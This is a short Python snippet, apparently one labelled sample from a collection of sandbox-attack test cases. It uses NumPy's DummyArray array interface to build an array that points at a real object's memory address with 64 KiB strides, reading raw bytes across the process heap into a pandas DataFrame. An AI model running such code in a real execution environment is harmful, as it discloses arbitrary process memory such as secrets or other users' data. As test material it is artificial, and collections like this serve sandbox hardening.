# class: numpy_memory
# technique: DummyArray interface with strides of 64 KiB from a real array's header: a sparse read across the whole heap
# goal: memory
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray

base = np.zeros(8, dtype=np.uint8)
samples = np.asarray(DummyArray({"data": (id(base), False), "shape": (4096,), "strides": (65536,),
                                 "typestr": "|u1", "version": 3}))
df = pd.DataFrame({"byte": samples.copy()})
